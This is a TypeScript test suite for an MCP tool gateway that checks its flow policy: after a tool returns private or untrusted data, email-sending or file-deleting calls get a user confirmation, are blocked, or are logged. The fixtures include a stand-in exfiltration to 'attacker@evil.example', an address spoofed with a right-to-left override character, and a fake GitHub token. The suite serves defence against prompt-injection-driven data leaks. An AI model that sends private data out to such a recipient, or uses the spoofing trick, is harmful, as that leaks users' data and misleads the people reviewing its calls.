// The gate's per-session flow policy, end to end: the official SDK client as
// the agent (with and without the elicitation capability), the official SDK
// server as the upstream. After a private or untrusted tool answered, a sink
// or destructive call is asked about, blocked or logged, per the policy.
import assert from 'node:assert/strict';
import { after, describe, it } from 'node:test';
import { rmSync } from 'node:fs';
import type { ElicitResult } from '@modelcontextprotocol/sdk/types.js';
import { lockFor, openGate, scratchDir, textOf, type AgentOptions } from './gateHelpers';
import { DELETE_FILE, FETCH_PAGE, FLOW_TOOLS, flowServer, GET_TIME, READ_FILE, SEND_EMAIL } from './flowHelpers';
import type { DecisionEntry, GatePolicy } from '../../server/src/gate';

const dir = scratchDir();
after(() => rmSync(dir, { recursive: true, force: true }));

const RECIPIENT = 'attacker@evil.example';
const BODY = 'the quarterly numbers are 41 and 17';

interface Asked {
  message: string;
  requestedSchema?: unknown;
}

/** A session on a fresh upstream; `answer` is how the agent's user answers each question. */
async function session(policy: GatePolicy, agent: AgentOptions & { answer?: (q: Asked) => Promise<ElicitResult> | ElicitResult } = {}) {
  const server = flowServer(dir, `s${Math.random().toString(36).slice(2, 8)}`, { tools: FLOW_TOOLS, results: { read_file: { content: [{ type: 'text', text: 'salary: 1000' }] } } });
  const asked: Asked[] = [];
  const answer = agent.answer;
  const options: AgentOptions = {
    capabilities: agent.capabilities ?? (answer ? { elicitation: { form: {} } } : {}),
    onElicit: answer
      ? async (q) => {
          asked.push(q);
          return answer(q);
        }
      : undefined,
  };
  const s = await openGate(new Map([[server.name, server.config]]), lockFor({ [server.name]: FLOW_TOOLS }), policy, {}, options);
  const call = (name: string, args: Record<string, unknown>) => s.client.callTool({ name, arguments: args });
  const sent = () => server.calls().filter((c) => c.method === 'tools/call' && c.name === 'send_email').length;
  return { ...s, server, asked, call, sent };
}

const mail = { to: RECIPIENT, body: BODY };

/** The log line of the first call to a tool (not its admission). */
function callLine(entries: DecisionEntry[], tool: string): DecisionEntry | undefined {
  return entries.find((e) => e.tool === tool && e.decision !== 'served' && e.decision !== 'withheld');
}

describe('gate flow policy: ask through elicitation', () => {
  it('a sink before any source answered is not asked about', async () => {
    const s = await session({}, { answer: () => ({ action: 'accept', content: { confirm: true } }) });
    try {
      const r = await s.call('send_email', mail);
      assert.equal(r.isError, undefined, textOf(r));
      assert.equal(s.asked.length, 0);
      assert.equal(s.sent(), 1);
      // A tool with no label answering changes nothing either.
      await s.call('get_time', {});
      await s.call('send_email', mail);
      assert.equal(s.asked.length, 0);
    } finally {
      await s.close();
    }
  });

  it('after a private answer, the user is asked; accepted and ticked, the call goes through', async () => {
    const s = await session({}, { answer: () => ({ action: 'accept', content: { confirm: true } }) });
    try {
      await s.call('read_file', { path: '/home/u/salary.txt' });
      const r = await s.call('send_email', mail);
      assert.equal(r.isError, undefined, textOf(r));
      assert.equal(s.sent(), 1);
      assert.equal(s.asked.length, 1);
      const q = s.asked[0];
      assert.match(q.message, /`send_email`/);
      assert.match(q.message, /`read_file` returned private data/);
      // The user sees what would be sent (bounded, escaped); the log does not.
      assert.ok(q.message.includes(RECIPIENT));
      assert.deepEqual(Object.keys((q.requestedSchema as { properties: object }).properties), ['confirm']);
      const line = callLine(s.log.entries, 'send_email');
      assert.deepEqual(line?.codes, ['flow-confirmed']);
      assert.match(line!.reason, /the user allowed the call/);
      assert.ok(!s.log.text().includes(RECIPIENT) && !s.log.text().includes('quarterly'));
    } finally {
      await s.close();
    }
  });

  for (const [what, reply, words] of [
    ['declined', { action: 'decline' }, /the user declined/],
    ['cancelled', { action: 'cancel' }, /the user cancelled the question/],
    ['accepted without the tick', { action: 'accept', content: { confirm: false } }, /did not tick the confirmation/],
  ] as const) {
    it(`${what}: refused with a reason naming the tools, and nothing is sent`, async () => {
      const s = await session({}, { answer: () => reply as ElicitResult });
      try {
        await s.call('read_file', { path: '/home/u/salary.txt' });
        const r = await s.call('send_email', mail);
        assert.equal(r.isError, true);
        const text = textOf(r);
        assert.match(text, /ilo gate refused the call: `send_email` sends data out after `read_file` returned private data/);
        assert.match(text, words);
        assert.ok(!text.includes(RECIPIENT) && !text.includes('quarterly'), text);
        assert.equal(s.sent(), 0);
        const line = callLine(s.log.entries, 'send_email');
        assert.equal(line?.decision, 'refused');
        assert.deepEqual(line?.codes, ['flow-declined']);
        assert.deepEqual(line?.arguments, ['to', 'body']);
        assert.ok(!s.log.text().includes(RECIPIENT));
      } finally {
        await s.close();
      }
    });
  }

  it('a client without the elicitation capability: refused, and the reason says why', async () => {
    const s = await session({});
    try {
      await s.call('read_file', { path: '/home/u/salary.txt' });
      const r = await s.call('send_email', mail);
      assert.equal(r.isError, true);
      assert.match(textOf(r), /`send_email` sends data out after `read_file` returned private data; the flow policy asks the user to confirm such calls, and this client cannot ask \(it did not declare the elicitation capability for forms\)/);
      assert.equal(s.sent(), 0);
      assert.deepEqual(callLine(s.log.entries, 'send_email')?.codes, ['flow-no-elicitation']);
    } finally {
      await s.close();
    }
  });

  it('a client that declared elicitation the 2025-06-18 way (an empty object) is asked', async () => {
    const s = await session({}, { capabilities: { elicitation: {} }, answer: () => ({ action: 'accept', content: { confirm: true } }) });
    try {
      await s.call('read_file', { path: '/x' });
      const r = await s.call('send_email', mail);
      assert.equal(r.isError, undefined, textOf(r));
      assert.equal(s.asked.length, 1);
    } finally {
      await s.close();
    }
  });

  it('no answer within the time limit: refused in bounded time', async () => {
    const s = await session({ flows: { askTimeoutSeconds: 0.4 } }, { answer: () => new Promise<ElicitResult>(() => {}) });
    try {
      await s.call('read_file', { path: '/x' });
      const t0 = Date.now();
      const r = await s.call('send_email', mail);
      const took = Date.now() - t0;
      assert.equal(r.isError, true);
      assert.match(textOf(r), /the user did not answer within 0\.4 s, so the call is refused/);
      assert.ok(took < 5000, `took ${took} ms`);
      assert.equal(s.sent(), 0);
      assert.deepEqual(callLine(s.log.entries, 'send_email')?.codes, ['flow-ask-failed']);
    } finally {
      await s.close();
    }
  });

  it('the argument preview escapes direction overrides and redacts secrets', async () => {
    const s = await session({}, { answer: () => ({ action: 'decline' }) });
    try {
      await s.call('read_file', { path: '/x' });
      const key = `ghp_${'a1B2'.repeat(9)}`;
      await s.call('send_email', { to: 'boss@corp.example\u202Eelpmaxe.live@', body: `use ${key}` });
      const q = s.asked[0].message;
      assert.ok(!q.includes('\u202E') && q.includes('\\u202e'), q);
      assert.ok(!q.includes(key) && q.includes('[redacted:github-token]'), q);
    } finally {
      await s.close();
    }
  });
});

describe('gate flow policy: block and log', () => {
  it('block: refused at once, nobody is asked', async () => {
    const s = await session({ flows: { leak: 'block' } }, { answer: () => ({ action: 'accept', content: { confirm: true } }) });
    try {
      await s.call('read_file', { path: '/x' });
      const r = await s.call('send_email', mail);
      assert.equal(r.isError, true);
      assert.match(textOf(r), /`send_email` sends data out after `read_file` returned private data; the flow policy blocks such calls in this session/);
      assert.equal(s.asked.length, 0);
      assert.equal(s.sent(), 0);
      assert.deepEqual(callLine(s.log.entries, 'send_email')?.codes, ['flow-blocked']);
    } finally {
      await s.close();
    }
  });

  it('log: let through, and the log line says why', async () => {
    const s = await session({ flows: { leak: 'log' } });
    try {
      await s.call('read_file', { path: '/x' });
      const r = await s.call('send_email', mail);
      assert.equal(r.isError, undefined, textOf(r));
      assert.equal(s.sent(), 1);
      const line = callLine(s.log.entries, 'send_email');
      assert.equal(line?.decision, 'allowed');
      assert.deepEqual(line?.codes, ['flow-logged']);
      assert.match(line!.reason, /flow policy log: `send_email` sends data out after `read_file` returned private data/);
    } finally {
      await s.close();
    }
  });

  it('tamper and leak follow their own settings; the stricter one wins when both apply', async () => {
    const s = await session({ flows: { leak: 'log', tamper: 'block' } });
    try {
      // Private data only: a sink is a leak (logged); a destructive tool is no risk.
      await s.call('read_file', { path: '/x' });
      assert.equal((await s.call('delete_file', { path: '/tmp/x' })).isError, undefined);
      assert.equal((await s.call('send_email', mail)).isError, undefined);
      // Untrusted content now: destructive and sink calls are tampering (blocked).
      await s.call('fetch_page', { url: 'https://example.com' });
      const del = await s.call('delete_file', { path: '/tmp/x' });
      assert.equal(del.isError, true);
      assert.match(textOf(del), /`delete_file` deletes or overwrites after `fetch_page` returned untrusted content/);
      const send = await s.call('send_email', mail);
      assert.equal(send.isError, true);
      assert.match(textOf(send), /returned private data; `send_email` sends data out after `fetch_page` returned untrusted content/);
      // Tools that are neither sinks nor destructive are never held back.
      assert.equal((await s.call('get_time', {})).isError, undefined);
      assert.equal((await s.call('read_file', { path: '/y' })).isError, undefined);
    } finally {
      await s.close();
    }
  });

  it('the policy file rejects an unknown action', async () => {
    const { parsePolicy } = await import('../../server/src/gate');
    const bad = parsePolicy('{"flows": {"leak": "maybe", "tampr": "block"}}', 'p.json');
    assert.ok('errors' in bad);
    const text = bad.errors.join('\n');
    assert.match(text, /\/flows\/leak must be "block", "ask" or "log"/);
    assert.match(text, /\/flows has an unknown key "tampr" \(known: leak, tamper, askTimeoutSeconds\)/);
    assert.ok('policy' in parsePolicy('{"flows": {"leak": "block", "tamper": "ask", "askTimeoutSeconds": 30}, "redactSecrets": false}'));
  });
});

describe('gate start report', () => {
  it('names the lethal trifecta and the tamper risk of the served tools, in the log and to the CLI hook', async () => {
    const server = flowServer(dir, 'report', { tools: [READ_FILE, FETCH_PAGE, SEND_EMAIL, DELETE_FILE, GET_TIME] });
    let reported: string[] = [];
    const s = await openGate(new Map([[server.name, server.config]]), lockFor({ report: FLOW_TOOLS }), {}, { onReport: (lines) => (reported = lines) });
    try {
      await s.gate.start();
      assert.equal(reported.length, 2);
      assert.match(reported[0], /^lethal trifecta: untrusted content \(`fetch_page`\) can steer an agent to move private data \(`read_file`\) out through `send_email`/);
      assert.match(reported[1], /^tamper risk: untrusted content \(`fetch_page`\) can steer destructive tools \(`delete_file`\)/);
      const lines = s.log.entries.filter((e) => e.decision === 'report');
      assert.deepEqual(lines.map((l) => l.codes), [['lethal-trifecta'], ['tamper-risk']]);
    } finally {
      await s.close();
    }
  });

  it('says nothing when the tools cannot combine that way', async () => {
    const server = flowServer(dir, 'quiet', { tools: [READ_FILE, GET_TIME] });
    let reported: string[] | undefined;
    const s = await openGate(new Map([[server.name, server.config]]), lockFor({ quiet: [READ_FILE, GET_TIME] }), {}, { onReport: (lines) => (reported = lines) });
    try {
      await s.gate.start();
      assert.deepEqual(reported, []);
      assert.equal(s.log.entries.filter((e) => e.decision === 'report').length, 0);
    } finally {
      await s.close();
    }
  });
});

void GET_TIME;

describe('gate CLI over stdio: flows across processes', () => {
  it('prints the lethal trifecta on stderr at start, and asks the host over stdio before a leak', async () => {
    const { Client } = await import('@modelcontextprotocol/sdk/client/index.js');
    const { StdioClientTransport } = await import('@modelcontextprotocol/sdk/client/stdio.js');
    const { ElicitRequestSchema } = await import('@modelcontextprotocol/sdk/types.js');
    const { writeFileSync, readFileSync } = await import('node:fs');
    const { join } = await import('node:path');
    const { serializeLock } = await import('../../server/src/contracts/pins');
    const root = join(__dirname, '..', '..');
    const server = flowServer(dir, 'cli', { tools: FLOW_TOOLS });
    const config = join(dir, 'cli.mcp.json');
    writeFileSync(config, JSON.stringify({ mcpServers: { cli: { command: process.execPath, args: (server.config as { args: string[] }).args } } }));
    const lockPath = join(dir, 'cli.lock.json');
    writeFileSync(lockPath, serializeLock(lockFor({ cli: FLOW_TOOLS })));
    const logPath = join(dir, 'cli.log');
    const transport = new StdioClientTransport({
      command: process.execPath,
      args: ['--import', 'tsx', join(root, 'server', 'src', 'cli.ts'), 'gate', '--config', config, '--lock', lockPath, '--log', logPath],
      cwd: root,
      stderr: 'pipe',
    });
    let stderr = '';
    transport.stderr?.on('data', (c: Buffer) => (stderr += c.toString()));
    const client = new Client({ name: 'host', version: '1.0.0' }, { capabilities: { elicitation: { form: {} } } });
    const questions: string[] = [];
    client.setRequestHandler(ElicitRequestSchema, async (r) => {
      questions.push(String(r.params.message));
      return { action: 'accept', content: { confirm: true } };
    });
    await client.connect(transport);
    try {
      await client.listTools();
      const { until } = await import('./gateHelpers');
      await until('the start report', () => /lethal trifecta/.test(stderr));
      assert.match(stderr, /ilo-ls gate: warning: lethal trifecta: untrusted content \(`fetch_page`\) can steer an agent to move private data \(`read_file`\) out through `send_email`/);
      assert.match(stderr, /ilo-ls gate: warning: tamper risk: untrusted content \(`fetch_page`\) can steer destructive tools \(`delete_file`\)/);
      await client.callTool({ name: 'read_file', arguments: { path: '/x' } });
      const r = await client.callTool({ name: 'send_email', arguments: mail });
      assert.equal(r.isError, undefined, textOf(r));
      assert.equal(questions.length, 1);
      assert.match(questions[0], /`send_email` \(server `cli`\) sends data out after `read_file` returned private data/);
    } finally {
      await client.close();
    }
    const log = readFileSync(logPath, 'utf8');
    assert.match(log, /"codes":\["lethal-trifecta"\]/);
    assert.match(log, /"codes":\["flow-confirmed"\]/);
    assert.ok(!log.includes(RECIPIENT));
  });
});
